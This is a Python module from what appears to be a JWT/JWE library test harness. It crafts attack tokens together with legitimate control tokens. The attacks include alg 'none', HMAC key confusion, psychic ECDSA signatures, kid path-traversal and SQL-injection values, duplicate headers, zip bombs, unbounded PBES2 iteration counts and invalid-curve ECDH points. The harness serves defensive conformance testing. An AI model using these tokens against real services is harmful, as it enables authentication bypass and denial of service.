"""The attack cases: small self-describing records, and how each token is crafted.

A ``Case`` says what is crafted, the CVE or class it reproduces and the safe
outcome; ``craft(case)`` builds the attack token, the positive control (a
legitimate token for the same application set-up: same key, allow-list and
expected claims) and the victim's key in the form the application holds it.
The victim's keys are jwtbench's fixed keys; the attacker's are made fresh.
A crash in crafting is the harness's bug and propagates (the run fails).
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import cache
from typing import Any, Literal

from cryptography.hazmat.primitives.asymmetric import ec, rsa

from jwtbench.adapters.base import Expect, KeyForm
from jwtbench.adapters.jose import b64url
from jwtbench.adapters.keys import KeyMaterial, jwe_key, load_key
from jwtbench.measure.conformance import craft as c

#: Every outcome a (library, call, case) cell can have, in report order.
OUTCOMES: tuple[str, ...] = (
    "safe",
    "unclean-reject",
    "unsafe",
    "unsafe-timeout",
    "unsafe-memory",
    "n/a",
)
#: Inflated bytes a library may return from a ``zip: DEF`` token before it counts as a bomb.
INFLATE_LIMIT = 1 << 20
#: P-256's order n (psychic signatures) and field prime (invalid-curve points).
P256_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
P256_P = 0xFFFFFFFF00000001000000000000000000000000FFFFFFFFFFFFFFFFFFFFFFFF
#: The expected claims of the b64 case: its payload travels unencoded, so no dots.
DOTLESS = Expect(audience="api-example", issuer="auth-example")


@dataclass(frozen=True)
class Case:
    """One attack, through one application set-up."""

    id: str
    variant: str
    kind: Literal["jws", "jwe"]
    crafts: str
    reproduces: str
    safe: str
    #: The victim's fixed key (a file stem; "dir" is the 32-byte A256GCM key).
    victim: str = "rsa2048"
    form: KeyForm = "pem"
    #: The application's allow-list (JWS), or its (alg, enc) pair (JWE).
    algs: tuple[str, ...] = ("RS256",)
    expect: Expect = field(default_factory=Expect)
    #: True: only calls given the expected aud/iss can refuse it; False: only the others.
    needs_expect: bool | None = None
    #: Accepting is safe when at most this many plaintext bytes come back (zip bombs).
    max_plaintext: int | None = None
    #: Why the floor accepts it too (the tests then only check the naive verifier).
    floor_gap: str = ""

    @property
    def name(self) -> str:
        return f"{self.id}/{self.variant}" if self.variant else self.id


@dataclass(frozen=True)
class Crafted:
    """A case's tokens and the victim's key, ready to hand to the sandbox."""

    case: Case
    token: str
    control: str
    key: bytes
    kty: str
    #: What the control must decrypt to (JWE); None for JWS.
    plaintext: bytes | None = None


def claims(expect: Expect, **changes: Any) -> dict[str, Any]:
    """Legitimate claims for ``expect``; a ``None`` value drops the claim.

    An empty expected audience means no ``aud`` at all: the tokens for calls that
    are given no audience (where a library may rightly refuse any ``aud``).
    """
    now = int(time.time())
    base = {
        "sub": "alice",
        "iss": expect.issuer,
        "aud": expect.audience or None,
        "iat": now,
        "exp": now + 3600,
    }
    return {k: v for k, v in (base | changes).items() if v is not None}


@cache
def attacker_rsa() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def victim_key(case: Case) -> tuple[bytes, str]:
    """(the key bytes the application holds in ``case.form``, its kty)."""
    if case.kind == "jwe":
        material = jwe_key("dir", "A256GCM") if case.victim == "dir" else load_key(case.victim)
        return material.raw("decrypt"), material.kty
    material = load_key(case.victim)
    if material.kty == "RSA":
        return c.public_forms(material.public_key(), material.jwk(False))[case.form], "RSA"
    if case.form == "jwk":
        return json.dumps(material.jwk(False)).encode(), material.kty
    return material.public_pem, material.kty


def _signer(material: KeyMaterial) -> Any:
    return material.private_key() if material.kty != "oct" else material.secret


def control_jws(case: Case) -> str:
    """A legitimate token: the first allowed alg, the victim's key, good claims."""
    alg = case.algs[0]
    return c.jwt(
        {"alg": alg, "typ": "JWT"}, claims(case.expect), _signer(load_key(case.victim)), alg
    )


# -- JWS crafting, by case id ------------------------------------------------------
def _alg_none(case: Case) -> str:
    return c.jwt({"alg": case.variant, "typ": "JWT"}, claims(case.expect), None, None)


def _hmac_confusion(case: Case) -> str:
    secret, _ = victim_key(case)  # HS256 keyed with exactly the bytes the victim holds
    return c.jwt({"alg": "HS256", "typ": "JWT"}, claims(case.expect), secret, "HS256")


def _psychic(case: Case) -> str:
    r, s = {"zero": (0, 0), "n": (P256_N, P256_N), "zero-n": (0, P256_N)}[case.variant]
    head = c.header_segment({"alg": "ES256", "typ": "JWT"})
    sig = r.to_bytes(32, "big") + s.to_bytes(32, "big")
    return f"{head}.{c.claims_segment(claims(case.expect))}.{b64url(sig)}"


def _victim_signed(header: dict[str, Any], sig_alg: str, **changes: Any) -> Callable[[Case], str]:
    """Signed by the victim's own key; integer ``exp``/``nbf`` changes are seconds from now."""

    def make(case: Case) -> str:
        now = int(time.time())
        timed = {
            name: now + value if name in ("exp", "nbf") and type(value) is int else value
            for name, value in changes.items()
        }
        signer = _signer(load_key(case.victim))
        return c.jwt(header, claims(case.expect, **timed), signer, sig_alg)

    return make


def _attacker_signed(header: Callable[[], dict[str, Any]]) -> Callable[[Case], str]:
    def make(case: Case) -> str:
        return c.jwt(header(), claims(case.expect), attacker_rsa(), "RS256")

    return make


def _attacker_jwk() -> dict[str, Any]:
    nums = attacker_rsa().public_key().public_numbers()
    jwk = {"kty": "RSA", "n": b64url(nums.n.to_bytes(256, "big")), "e": b64url(b"\x01\x00\x01")}
    return {"alg": "RS256", "typ": "JWT", "jwk": jwk}


def _b64_false(case: Case) -> str:
    """RFC 7797 unencoded payload, signed as RFC 7797 says, but without ``crit``."""
    header = c.header_segment({"alg": "RS256", "b64": False})
    payload = json.dumps(claims(case.expect), separators=(",", ":"))
    sig = c.signature(f"{header}.{payload}".encode(), _signer(load_key(case.victim)), "RS256")
    return f"{header}.{payload}.{b64url(sig)}"


def _kid(case: Case) -> str:
    kid, secret = {
        "path": ("../../../../../../dev/null", b""),
        "sql": ("x' UNION SELECT 'k' --", b"k"),
    }[case.variant]
    return c.jwt({"alg": "HS256", "typ": "JWT", "kid": kid}, claims(case.expect), secret, "HS256")


def _duplicate(case: Case) -> str:
    return c.jwt('{"alg":"RS256","typ":"JWT","alg":"none"}', claims(case.expect), None, None)


def _huge(case: Case) -> str:
    pad = "A" * (10 * 1024 * 1024 * 3 // 4)  # base64url: a 10 MB token
    return c.jwt(
        {"alg": "RS256", "typ": "JWT"}, claims(case.expect, pad=pad), attacker_rsa(), "RS256"
    )


# -- JWE crafting --------------------------------------------------------------------
def _plaintext(case: Case) -> bytes:
    return json.dumps(claims(case.expect)).encode()


def _zip_bomb(case: Case) -> str:
    """RFC 1951 raw DEFLATE; ``-zlib`` variants wrap it in zlib's header (RFC 1950), which
    RFC 7516 does not use but which a library calling ``zlib.decompress`` plainly inflates."""
    ratio, _, wrap = case.variant.partition("-")
    size = {"10MB": 10 << 20, "100MB": 100 << 20, "1GB": 1 << 30}[ratio]
    header = {"alg": "dir", "enc": "A256GCM", "zip": "DEF"}
    body = c.deflated_zeros(size, zlib_header=wrap == "zlib")
    return c.jwe_dir(header, jwe_key("dir", "A256GCM").secret, body)


def _pbes2(case: Case) -> str:
    header = {
        "alg": "PBES2-HS256+A128KW",
        "enc": "A256GCM",
        "p2s": b64url(os.urandom(16)),
        "p2c": 2**31 - 1,
    }
    return c.jwe_pbes2_unbounded(header)


def order3_point() -> tuple[int, int]:
    """A point of order 3 on y^2 = x^3 - 3x + b' (b' != P-256's b): off P-256.

    ECDH without an on-curve check computes d * P in {O, P, -P}: its x is the
    point's own x unless 3 | d, so the attacker predicts the shared secret.
    """
    p, a = P256_P, -3
    for x in range(2, 1000):
        b = (a * a - 3 * x**4 - 6 * a * x * x) * pow(12 * x, -1, p) % p
        rhs = (x**3 + a * x + b) % p
        y = pow(rhs, (p + 1) // 4, p)
        if y * y % p == rhs:
            return x, y
    raise RuntimeError("no order-3 point found")  # pragma: no cover - x = 2.. finds one


def _invalid_curve(case: Case) -> str:
    if case.variant == "off-curve":
        x, y = order3_point()
        epk = {
            "kty": "EC",
            "crv": "P-256",
            "x": b64url(x.to_bytes(32, "big")),
            "y": b64url(y.to_bytes(32, "big")),
        }
        return c.jwe_ecdh_forced(epk, x.to_bytes(32, "big"), _plaintext(case))
    other = ec.generate_private_key(ec.SECP384R1()).public_key()  # wrong-curve: a P-384 epk
    return c.jwe_ecdh_forced(c.ec_jwk(other), os.urandom(48), _plaintext(case))


def _rsa1_5(case: Case) -> str:
    public = load_key("rsa2048").public_key()
    return c.jwe_rsa({"alg": "RSA1_5", "enc": "A256GCM"}, public, _plaintext(case))


def control_jwe(case: Case, plaintext: bytes) -> str:
    """A legitimate token for the application's (alg, A256GCM) and key."""
    alg = case.algs[0]
    if alg == "dir":
        return c.jwe_dir(
            {"alg": "dir", "enc": "A256GCM"}, jwe_key("dir", "A256GCM").secret, plaintext
        )
    if alg.startswith("PBES2"):
        header = {"alg": alg, "enc": "A256GCM", "p2s": b64url(os.urandom(16)), "p2c": 4096}
        return c.jwe_pbes2(header, jwe_key(alg, "").secret, plaintext)
    if alg == "ECDH-ES":
        return c.jwe_ecdh(load_key("p256").public_key(), plaintext)
    return c.jwe_rsa({"alg": alg, "enc": "A256GCM"}, load_key("rsa2048").public_key(), plaintext)
